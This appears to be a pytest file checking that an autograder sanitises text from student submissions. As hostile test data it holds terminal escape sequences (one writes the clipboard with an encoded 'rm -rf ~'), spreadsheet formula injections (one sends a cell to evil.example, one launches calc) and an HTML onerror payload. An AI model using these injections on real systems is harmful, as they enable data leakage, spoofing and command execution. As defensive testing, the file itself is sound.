"""What a submission writes, and what it is called, attacking the reports (issue 27, classes 3 and 5).

Every text a submission controls (what it prints, what it raises, its file
and cell names, its student id) must reach a terminal, a spreadsheet, a
browser and the batch's own files as data: no control character or escape
sequence, no line that passes for one of the report's own, no cell a
spreadsheet runs, no id that overwrites the batch's files. The first tests
attack the sanitiser and the writers with records built here (no grading);
the last ones grade small submissions for real (kl_loss and slerp, cheap).

The sanitiser, the writers and the batch's names are Python's business, not Keras's: the module runs on the tensorflow pass (one_backend).
"""

import csv
import dataclasses
import json
import os
import pathlib
import re
import sys

import pytest

sys.path.insert(0, str(pathlib.Path(__file__).parent))  # tests/_submissions.py
from _submissions import CORRECT, write  # noqa: E402
from autograder import cli, writers  # noqa: E402
from autograder.batch import pool  # noqa: E402
from autograder.course import results as reconcile_results  # noqa: E402
from autograder.grade import failed_record, grade  # noqa: E402
from autograder.limits import Limits  # noqa: E402
from autograder.record import GradeRecord, Note  # noqa: E402
from autograder.report import class_data, class_report  # noqa: E402
from genimg_kit.checks.report import format_part  # noqa: E402
from genimg_kit.parts import part_points  # noqa: E402
from genimg_kit.text import one_line, plain, quoted, shown  # noqa: E402
from tests.synthetic_records import record as synthetic_record  # noqa: E402

pytestmark = pytest.mark.one_backend

BACKEND = os.environ.get("KERAS_BACKEND", "tensorflow")

# Every character a terminal or a text view acts on: C0 but newline, DEL, C1,
# the line and paragraph separators, the bidi controls, lone surrogates.
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
MARK = "EVIL"  # in every line of hostile text: where it lands in a report is what is checked

# Report lines a submission would like to add, each behind a different way of
# reaching column 0 or hiding the line before it.
FAKES = [
    f"\nscore: 100/100 {MARK}",
    f"\r[PASS] kl_loss.fake {MARK}  (12/12)",
    f"\x1b[2K\rkl_loss: 12/12 points {MARK}",
    f"\x0bslerp: 16/16 points {MARK}",
    f"\x0cstatus: ok {MARK}",
    f"\x85  [PASS] slerp.fake {MARK}  (16/16)",
    f"\u2028graded in 0.1 s {MARK}",
    f"\u2029genimg grade for honest.py {MARK}",
    f"\x1c\x1d\x1e[FAIL] nothing {MARK}",
    f"\r\n  [PASS] sampler.fake {MARK}  (12/12)",
]
# Sequences a terminal would act on (titles, hyperlinks, cursor, screen, device strings).
SEQUENCES = [
    "\x1b]0;pwned title\x07",  # OSC: window title, BEL-terminated
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",  # OSC 8 hyperlink, ST-terminated
    "\x1b]52;c;cm0gLXJmIH4=\x07",  # OSC 52: write the clipboard
    "\x1bP+q544e\x1b\\",  # DCS: request terminfo
    "\x1b_Gf=100;AAAA\x1b\\",  # APC: kitty graphics
    "\x1b^private\x1b\\",  # PM
    "\x1bXsos\x9c",  # SOS, C1 ST
    "\x1b[?25l",  # private CSI: hide the cursor
    "\x1b[?1049h",  # private CSI: the alternate screen
    "\x1b[2J\x1b[H",  # clear the screen, home
    "\x9b31m",  # C1 CSI: red
    "\x9d0;c1 title\x07",  # C1 OSC
    "\x1b(0",  # ESC with an intermediate: line-drawing characters
    "\x1bc",  # RIS: reset the terminal
    "\x1b7\x1b8",  # save and restore the cursor
]
CONTROLS = "\x00\x07\x08\x08\x08\x7f\x1b\x9c\u202e\u2066\u2069\ud800"  # NUL, BEL, BS, DEL, a lone ESC, bidi, surrogate
HOSTILE = "".join(SEQUENCES) + CONTROLS + "".join(FAKES) + f"\ttab {MARK}"


def assert_no_unsafe(text):
    found = sorted({f"U+{ord(c):04X}" for c in UNSAFE.findall(text)})
    assert not found, f"control characters left: {found}"


# Lines of the text report that hostile text may be on: behind the quoting
# prefix, in a check's indented details, or after one of the grader's own labels.
STUDENT_LINE = re.compile(r"(  \| |      |genimg grade for |status: \w+: )")


def assert_student_text_is_marked(report):
    lines = [line for line in report.split("\n") if MARK in line]
    assert lines, "the hostile text is not in the report at all"
    for line in lines:
        assert STUDENT_LINE.match(line), f"student text at a line of its own: {line!r}"
    # The report's own lines are only the grader's.
    assert [line for line in report.split("\n") if line.startswith("score:")] == \
        [line for line in report.split("\n") if re.fullmatch(r"score: [\d.]+/[\d.]+", line)]
    assert not [line for line in report.split("\n") if line.startswith("  [") and MARK in line]


# --- the sanitiser ---------------------------------------------------------------------


@pytest.mark.parametrize("sequence", SEQUENCES + list(CONTROLS))
def test_plain_removes_each_sequence_and_control_whole(sequence):
    text = plain(f"before{sequence}\nafter")  # (ESC and the letter after it would be a sequence too)
    assert_no_unsafe(text)
    assert text.startswith("before") and text.endswith("\nafter")
    for payload in ("pwned", "evil.example", "cm0g", "544e", "AAAA", "private", "sos", "c1 title"):
        assert payload not in text  # a sequence goes whole, its payload with it


@pytest.mark.parametrize("fake", FAKES)
def test_every_line_break_and_carriage_return_becomes_a_newline(fake):
    text = plain("kept" + fake)
    assert_no_unsafe(text)
    assert text.startswith("kept\n") and MARK in text.split("\n")[-1]  # nothing overwritten: a line of its own
    assert text.split("\n") == text.splitlines()  # the lines Python splits are the lines shown
    assert "\n" not in one_line(text) and plain(text) == text  # one line; and idempotent


def test_an_unterminated_string_sequence_hides_nothing_after_it():
    text = plain("a\x1b]0;title\nscore: the next line\x07")
    assert text == "a0;title\nscore: the next line"


def test_shown_names_tell_every_id_apart_on_one_printable_line():
    ids = ["alice", "al\nice", "al\x1b[1mice", "al\u202eice", "'alice'", "José", "a\ud800"]
    names = [shown(i) for i in ids]
    assert len(set(names)) == len(ids)
    assert all(n.isprintable() for n in names) and names[0] == "alice" and names[5] == "José"


# --- every writer, from a hostile record --------------------------------------------


def hostile_record():
    """A record whose every text from the submission is hostile, as a grader could make it."""
    template = failed_record(f"sub{HOSTILE}.py", BACKEND, ["kl_loss", "slerp"], "error", f"it broke{HOSTILE}")
    parts = {part: dataclasses.replace(result, checks=[
                 dataclasses.replace(c, message=f"your code raised ValueError: {HOSTILE}",
                                     counterexample=f"z_mean={HOSTILE}") for c in result.checks])
             for part, result in template.parts.items()}
    notes = [Note("load_error", f"cell{HOSTILE}: ValueError: {HOSTILE}"), Note("printed", HOSTILE * 3)]
    return dataclasses.replace(template, parts=parts, notes=notes)


def test_a_record_is_plain_however_it_is_made():
    made = hostile_record()
    read = GradeRecord.from_json(json.loads(json.dumps(made.to_json()).replace("it broke", "it broke\\u001b[31m")))
    for record in (made, read, dataclasses.replace(made, message=HOSTILE)):
        assert_no_unsafe(json.dumps(record.to_json(), ensure_ascii=False))
        assert "\n" not in record.submission  # a name is one line
    assert read == made  # the colour code that came with the JSON is gone


def test_no_writer_lets_a_control_character_or_a_fake_line_through(capsys):
    record = hostile_record()
    report = writers.text_report(record)
    assert_no_unsafe(report)
    assert_student_text_is_marked(report)
    assert_student_text_is_marked(writers.text_report(record, show_passed=False, total=False))
    for data in (writers.gradescope(record), writers.classroom(record), pool.results_data(record)):
        assert_no_unsafe(json.dumps(data, ensure_ascii=False))
    for test in writers.gradescope(record)["tests"]:
        # A check's own text starts with what the check wrote; the submission's lines are indented.
        assert all(not line.startswith(("score", "[PASS]", MARK)) for line in test["output"].split("\n"))
    assert_no_unsafe(format_part(record.parts["kl_loss"]))


def test_a_check_message_made_after_the_record_is_still_shown_plain():
    """The kit's report cleans too: a self-check's part block (no record) and a record changed in place."""
    record = hostile_record()
    check = record.parts["kl_loss"].checks[0]
    check.message, check.counterexample = HOSTILE, HOSTILE  # behind the record's back
    block = format_part(record.parts["kl_loss"])
    assert_no_unsafe(block)
    assert all(line.startswith("  ") for line in block.split("\n")[1:])


def test_quoted_text_never_starts_a_line():
    assert quoted(f"a{HOSTILE}") == [f"  | {line}" for line in plain(f"a{HOSTILE}").split("\n")]


# --- CSV files: no formula, numbers stay numbers, ids read back -----------------------------

IDS = ['=HYPERLINK("evil.example?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
       "'=already quoted", "a\nb", 'a"b', "a,b", "summary.csv", "batch.log", "report.html", "students",
       "José", "alice"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_summary_csv_holds_no_formula_and_reads_every_id_back(tmp_path):
    for student in IDS:
        pool.write_result(tmp_path, student, synthetic_record(student, "correct"))
    pool.write_summary(tmp_path)
    with open(tmp_path / pool.SUMMARY_NAME, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert len(rows) == len(IDS) + 1
    for row in rows[1:]:
        assert not any(cell.startswith(FORMULA) for cell in row), row
        assert float(row[1]) == pytest.approx(100.0)  # a number is written as a number
    assert set(pool.read_summary(tmp_path)) == set(IDS)
    assert set(class_data.load_class(tmp_path).records) == set(IDS)


def test_an_outdir_of_the_older_layout_is_still_reported(tmp_path):
    for student in ("alice", "bob"):  # OUT/<student>/results.json, as an older release wrote it
        writers.write_json(pool.results_data(synthetic_record(student, "correct")), tmp_path / student / "results.json")
    assert set(class_data.load_class(tmp_path).records) == {"alice", "bob"}


def test_a_negative_number_stays_a_number_and_text_like_it_does_not():
    assert writers.csv_cell(-2.5) == -2.5 and writers.csv_cell(0) == 0 and writers.csv_cell("") == ""
    assert writers.csv_cell("-2.5") == "'-2.5"
    for text in IDS + ["'", "''x", "-"]:
        assert writers.csv_text(writers.csv_cell(text)) == text


def test_reconcile_csv_holds_no_formula_and_reads_back(tmp_path):
    rows = [reconcile_results.Row(student, "kl_loss", -0.0, 12.0, True, f"=cmd|'/c calc'!A0 {student}", "nb",
                                  "check_kl_loss", 12.0, "ok") for student in IDS]
    path = tmp_path / "ch17.csv"
    reconcile_results.write_csv(rows, path)
    with open(path, newline="", encoding="utf-8") as f:
        written = list(csv.DictReader(f))
    assert {row["in_kernel"] for row in written} == {"-0.0"}  # a number, as it was
    assert not any(cell.startswith(FORMULA) for row in written for key, cell in row.items() if key != "in_kernel")
    assert reconcile_results.read_csv(path) == rows


# --- the class report -------------------------------------------------------------------


def test_the_class_report_takes_any_id_and_shows_it_escaped(tmp_path):
    ids = IDS + ["<img src=x onerror=alert(1)>", "\u202egnp.exe", "é" * 120, "x" * 250]
    records = {s: synthetic_record(s, "correct") for s in ids}
    records["<img src=x onerror=alert(1)>"] = hostile_record()
    for student, record in records.items():
        pool.write_result(tmp_path, student, record)
    pool.write_summary(tmp_path)
    assert cli.main(["report", str(tmp_path), "--no-similarity"]) == 0
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "\u202e" not in page and shown("\u202egnp.exe").replace("'", "&#39;") in page
    pages = {p.name for p in (tmp_path / "report_students").iterdir()}
    assert pages == {class_report.student_page_name(s) for s in ids}  # one page per id, none lost
    for name in pages:
        assert len(name.encode()) < 255 and f'href="report_students/{name}"' in page  # the link is the file
        assert_no_unsafe((tmp_path / "report_students" / name).read_text(encoding="utf-8"))


# --- grading for real: what a submission prints and raises, what it is called -------------------

# What Python lets a class name and a printed line hold of it (no NUL in a name, no lone
# surrogate in UTF-8 output); an exception's message holds it all.
PRINTABLE_HOSTILE = HOSTILE.replace("\x00", "").replace("\ud800", "")

SLERP_RAISES = f"""
def slerp(t, v1, v2):
    raise type({PRINTABLE_HOSTILE!r}, (ValueError,), {{}})({HOSTILE!r})
"""

PRINTS = CORRECT.replace("def kl_loss(z_mean, z_log_var):\n", f"""_printed = []


def kl_loss(z_mean, z_log_var):
    if not _printed:
        _printed.append(1)
        print({PRINTABLE_HOSTILE!r})
        print("x" * 5000 + "END-OF-A-5-KB-LINE")
""")

# A class body runs as the submission loads: its error is a load_error note.
LOADS_BADLY = f"""
class Trouble:
    raise RuntimeError({HOSTILE!r})
"""


def test_what_a_graded_submission_prints_and_raises_reaches_the_report_whole_and_plain(tmp_path, capsys):
    path = write(tmp_path, "hostile.py", PRINTS + SLERP_RAISES + LOADS_BADLY)
    assert cli.main([str(path), "--parts", "kl_loss,slerp", "--json", str(tmp_path / "results.json"),
                     "--backend", BACKEND]) == 0
    stdout = capsys.readouterr().out
    assert_no_unsafe(stdout)
    assert_student_text_is_marked(stdout)
    assert "END-OF-A-5-KB-LINE" in stdout  # printed, under 8 KB, and not lost in a buffer when the child was killed
    assert "the submission printed" in stdout and "these statements failed while the submission loaded" in stdout
    assert "  | " + "x" * 100 in stdout and "x" * 2001 not in stdout  # its end, as much as is kept
    results = json.loads((tmp_path / "results.json").read_text())
    assert_no_unsafe(json.dumps(results, ensure_ascii=False))
    points = {part: sum(t["score"] for t in results["tests"] if t["name"].startswith(part + ":"))
              for part in ("kl_loss", "slerp")}
    assert points == {"kl_loss": part_points("kl_loss"), "slerp": 0}  # printing costs nothing


def test_a_short_print_is_kept_too(tmp_path):
    short = CORRECT.replace("    return", "    print('a short line')\n    return")
    record = grade(write(tmp_path, "short.py", short), parts=["kl_loss"], backend=BACKEND,
                   limits=Limits(part_seconds=60, load_seconds=60))
    assert any(n.kind == "printed" and "a short line" in n.text for n in record.notes)


# Named like the batch's own files, like a spreadsheet formula, or with a line break.
BATCH_IDS = {"batch.log": "batch.log.py", "summary.csv": "summary.csv/vae.py", "report.html": "report.html.py",
             '=HYPERLINK("evil.example","x")': '=HYPERLINK("evil.example","x").py', "two\nlines": "two\nlines.py"}


def test_students_named_like_the_batch_files_are_graded_like_anyone(tmp_path, capsys):
    submissions, out = tmp_path / "submissions", tmp_path / "out"
    for name in BATCH_IDS.values():
        write(submissions, name, CORRECT)
    records = pool.run_batch(submissions, out, workers=2, timeout=150, backend=BACKEND, parts=["kl_loss"],
                             progress=True)
    progress = capsys.readouterr().err
    assert set(records) == set(BATCH_IDS)
    assert all(r.status == "ok" and r.score == part_points("kl_loss") for r in records.values()), \
        {s: (r.status, r.message) for s, r in records.items()}
    assert "'two\\nlines': 12/12 ok" in progress  # a progress line per student, the id on it
    assert (out / pool.LOG_NAME).is_file() and (out / pool.SUMMARY_NAME).is_file()
    summary = pool.read_summary(out)
    assert set(summary) == set(BATCH_IDS) and all(float(r["score"]) == 12 for r in summary.values())
    with open(out / pool.SUMMARY_NAME, newline="", encoding="utf-8") as f:
        assert not any(row[0].startswith(FORMULA) for row in csv.reader(f))
    # Resumed: everyone is graded already.
    again = pool.run_batch(submissions, out, workers=1, timeout=150, backend=BACKEND, parts=["kl_loss"],
                           progress=False)
    assert {s: r.to_json() for s, r in again.items()} == {s: r.to_json() for s, r in records.items()}
    assert cli.main(["report", str(out), "--no-similarity"]) == 0
    page = (out / "report.html").read_text(encoding="utf-8")
    assert all(class_report.student_page_name(s) in page for s in BATCH_IDS)
    assert all((out / "report_students" / class_report.student_page_name(s)).is_file() for s in BATCH_IDS)
